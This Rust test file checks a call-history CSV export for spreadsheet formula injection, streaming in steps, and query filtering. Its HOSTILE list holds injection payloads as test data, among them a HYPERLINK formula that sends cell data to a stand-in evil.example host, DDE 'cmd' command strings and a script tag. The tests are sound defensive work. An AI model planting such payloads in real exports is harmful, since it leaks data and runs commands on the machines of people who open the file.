//! The history as a table: whatever callers call themselves, a spreadsheet shows it as text.

use crate::engine::{Engine, HOST};
use axum::{
    body::{Body, Bytes},
    http::Request,
};
use futures_util::TryStreamExt;
use office::CallId;
use store::{CallRecord, CallSummary, Party, limits::CALLS_PER_EXPORT_STEP};
use tower::ServiceExt;

/// What callers may put into their display name, or a carrier into a number.
const HOSTILE: [&str; 14] = [
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "+49 30 1234",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "Anna \"the boss\"",
    "\"",
    "Doe, Jane",
    "two\r\nlines,\"=1+1\"",
    "<script>alert(1)</script>",
];

const COLUMNS: usize = 16;
const FROM_NAME: usize = 6;
const TO_NUMBER: usize = 9;

#[tokio::test]
async fn no_name_computes_or_breaks_out_of_its_cell() {
    let engine = Engine::start();
    let calls = (1..).zip(HOSTILE).map(|(id, name)| call(id, name));
    add(&engine, calls.collect()).await;
    let table = String::from_utf8(pieces(&engine, "").await.concat()).unwrap();
    let table = table.strip_prefix('\u{feff}').unwrap();
    let rows = cells(table);
    assert_eq!(rows.len(), 1 + HOSTILE.len());
    assert_eq!(rows[0][FROM_NAME], "from name");
    for (row, name) in rows[1..].iter().zip(HOSTILE.iter().rev()) {
        assert_eq!(row.len(), COLUMNS, "{name:?}");
        for cell in row {
            let starts = cell.chars().next().unwrap_or('a');
            assert!(!"=+-@\t\r\n".contains(starts), "{cell:?} computes");
        }
        for column in [FROM_NAME, TO_NUMBER] {
            let text = row[column].strip_prefix('\'').unwrap_or(&row[column]);
            assert_eq!(text, *name, "nothing is lost");
        }
    }
}

#[tokio::test]
async fn a_long_history_comes_piece_by_piece() {
    let engine = Engine::start();
    let many = CALLS_PER_EXPORT_STEP + 1;
    let calls = (1..).take(many).map(|id| call(id, "Anna"));
    add(&engine, calls.collect()).await;
    let pieces = pieces(&engine, "").await;
    assert_eq!(pieces.len(), 3, "titles, one full step, the rest");
    let lines = |piece: &Bytes| piece.iter().filter(|byte| **byte == b'\n').count();
    let lines: Vec<usize> = pieces.iter().map(lines).collect();
    assert_eq!(lines, [1, CALLS_PER_EXPORT_STEP, 1]);
}

#[tokio::test]
async fn the_table_holds_what_was_looked_for() {
    let engine = Engine::start();
    add(&engine, vec![call(1, "Anna"), call(2, "=Ben")]).await;
    for (asked, found) in [("?q=ben", 1), ("?outcome=busy", 0), ("?from=5000", 1)] {
        let table = pieces(&engine, asked).await.concat();
        let rows = cells(std::str::from_utf8(&table).unwrap());
        assert_eq!(rows.len(), 1 + found, "{asked}");
    }
    let wrong = engine.get("/api/calls.csv?colour=red").await;
    assert_eq!(wrong.problem(400), None);
}

pub fn call(id: u32, name: &str) -> CallRecord {
    let began = i64::from(id) * 3_000;
    let party = Party {
        person: None,
        number: name.to_owned(),
        name: name.to_owned(),
    };
    CallRecord {
        summary: CallSummary {
            id: CallId(id.into()),
            started_at: began,
            answered_at: Some(began + 500),
            ended_at: began + 2_500,
            from: party.clone(),
            to: party,
            outcome: "answered".to_owned(),
            reason: "hungUp".to_owned(),
            hung_up_by: "caller".to_owned(),
            media_path: "direct".to_owned(),
            codec: String::new(),
            outside: None,
        },
        events: vec![],
        trace: vec![],
        trace_left_out: 0,
    }
}

pub async fn add(engine: &Engine, calls: Vec<CallRecord>) {
    let added = engine.keeper.ask(move |store| store.append_calls(&calls));
    added.await.unwrap();
}

/// The table as it comes over the wire.
pub async fn pieces(engine: &Engine, asked: &str) -> Vec<Bytes> {
    let request = Request::builder()
        .uri(format!("/api/calls.csv{asked}"))
        .header("host", HOST)
        .header("authorization", format!("Bearer {}", engine.token));
    let request = request.body(Body::empty()).unwrap();
    let response = engine.router.clone().oneshot(request).await.unwrap();
    assert_eq!(response.status(), 200);
    let headers = response.headers();
    assert_eq!(
        headers["content-type"],
        "text/csv; charset=utf-8; header=present"
    );
    assert_eq!(
        headers["content-disposition"],
        "attachment; filename=\"calls.csv\""
    );
    let pieces = response.into_body().into_data_stream();
    pieces.try_collect().await.unwrap()
}

/// The table as RFC 4180 reads it.
fn cells(table: &str) -> Vec<Vec<String>> {
    let mut rows = vec![];
    let (mut row, mut cell, mut is_quoted) = (vec![], String::new(), false);
    let mut letters = table.chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if is_quoted && letters.next_if_eq(&'"').is_some() => cell.push('"'),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !is_quoted && letters.next_if_eq(&'\n').is_some() => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            letter => cell.push(letter),
        }
    }
    assert!(
        !is_quoted && row.is_empty() && cell.is_empty(),
        "it breaks off"
    );
    rows
}
